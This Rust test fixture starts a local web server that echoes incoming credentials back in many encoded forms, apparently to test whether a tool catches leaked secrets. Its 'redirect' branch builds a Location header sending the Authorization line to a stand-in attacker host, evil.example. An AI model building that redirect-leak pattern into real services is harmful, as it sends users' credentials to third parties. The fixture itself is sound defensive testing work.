//! A target that echoes credentials in all the ways of real ones: error pages, debug output, redirects, token endpoints
//! that quote the request.

use std::net::SocketAddr;
use std::sync::{Arc, Mutex};

use axum::Router;
use axum::body::Bytes;
use axum::http::{HeaderMap, HeaderValue, Response, StatusCode, Uri};
use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;

/// Path endings below `/granted/` with special responses.
pub(super) const WAYS: [&str; 11] =
    ["plain", "base64", "hex", "json", "html", "percent", "unicode", "redirect", "error", "unauthorized", "packed"];

/// The token that it issues.
pub(super) const TOKEN: &str = "CnryToken7Qx9ZwKp31Aa";

/// A running target and everything that it received.
pub(super) struct Echo {
    pub(super) address: SocketAddr,
    pub(super) got: Arc<Mutex<String>>,
}

impl Echo {
    pub(super) async fn start() -> Self {
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.expect("a port");
        let address = listener.local_addr().expect("an address");
        let got = Arc::<Mutex<String>>::default();
        let log = Arc::clone(&got);
        let router = Router::new().fallback(move |uri: Uri, headers: HeaderMap, body: Bytes| async move {
            let credentials = credentials(&headers, &body);
            log.lock().expect("a lock").push_str(&credentials);
            answer(uri.path(), &credentials, &body)
        });
        tokio::spawn(async move { axum::serve(listener, router).await });
        Self { address, got }
    }
}

fn credentials(headers: &HeaderMap, body: &Bytes) -> String {
    let fields = headers.iter().map(|(name, value)| format!("{name}: {}\n", String::from_utf8_lossy(value.as_bytes())));
    fields.collect::<String>() + &String::from_utf8_lossy(body)
}

fn answer(path: &str, credentials: &str, body: &Bytes) -> Response<axum::body::Body> {
    let percent = |text: &str| {
        text.bytes()
            .map(
                |byte| if byte.is_ascii_alphanumeric() { char::from(byte).to_string() } else { format!("%{byte:02X}") },
            )
            .collect::<String>()
    };
    let json = |text: &str| serde_json::Value::from(text).to_string();
    let html = |text: &str| {
        text.replace('&', "&amp;")
            .replace('<', "&lt;")
            .replace('>', "&gt;")
            .replace('"', "&#34;")
            .replace('\'', "&#39;")
    };
    let reply = Response::builder();
    let (reply, text) = match path.rsplit('/').next().unwrap_or_default() {
        "base64" => (reply, STANDARD.encode(credentials)),
        "hex" => (reply, credentials.bytes().map(|byte| format!("{byte:02x}")).collect()),
        "json" => (reply, json(credentials)),
        "html" => (reply, format!("<pre>{}</pre>", html(credentials))),
        "percent" => (reply, percent(credentials)),
        "unicode" => (reply, json(credentials).replace('<', "\\u003c").replace('>', "\\u003e").replace('&', "\\u0026")),
        "redirect" => {
            let line = credentials.lines().find(|line| line.starts_with("authorization")).unwrap_or(credentials);
            let place = format!("http://evil.example/?{}", percent(line));
            let raw = HeaderValue::from_bytes(line.trim_end().replace('\n', " ").as_bytes());
            let reply = reply.header("location", place).header("x-debug", raw.unwrap_or(HeaderValue::from_static("")));
            (reply.header("set-cookie", "session=1").status(302), String::new())
        }
        "error" => (reply.status(500), format!("<h1>Internal error</h1>{credentials}")),
        "unauthorized" => (reply.status(401).header("www-authenticate", percent(credentials)), credentials.to_owned()),
        "packed" => (reply.header("content-encoding", "br"), credentials.to_owned()),
        "token" => (reply, format!("{{\"access_token\":\"{TOKEN}\",\"expires_in\":3600}}")),
        "refused" => {
            let form = String::from_utf8_lossy(body).into_owned();
            let secret = form.split('&').find_map(|pair| pair.strip_prefix("client_secret=")).unwrap_or_default();
            let secret = plain(secret);
            // Long enough to be truncated in the middle of the secret.
            let description = json(&format!("{}{secret}", "x".repeat(180)));
            (reply.status(400), format!("{{\"error\":\"invalid_client\",\"error_description\":{description}}}"))
        }
        _ => (reply, credentials.to_owned()),
    };
    reply.body(text.into()).unwrap_or_else(|_| {
        let mut failed = Response::new("not a response".into());
        *failed.status_mut() = StatusCode::INTERNAL_SERVER_ERROR;
        failed
    })
}

/// The decoded value of a form field.
fn plain(value: &str) -> String {
    let mut bytes = Vec::new();
    let mut rest = value.as_bytes();
    while let Some((first, after)) = rest.split_first() {
        let digits = after.get(..2).and_then(|digits| std::str::from_utf8(digits).ok());
        match (first, digits.and_then(|digits| u8::from_str_radix(digits, 16).ok())) {
            (b'%', Some(byte)) => {
                bytes.push(byte);
                rest = &after[2..];
                continue;
            }
            (b'+', _) => bytes.push(b' '),
            (other, _) => bytes.push(*other),
        }
        rest = after;
    }
    String::from_utf8_lossy(&bytes).into_owned()
}
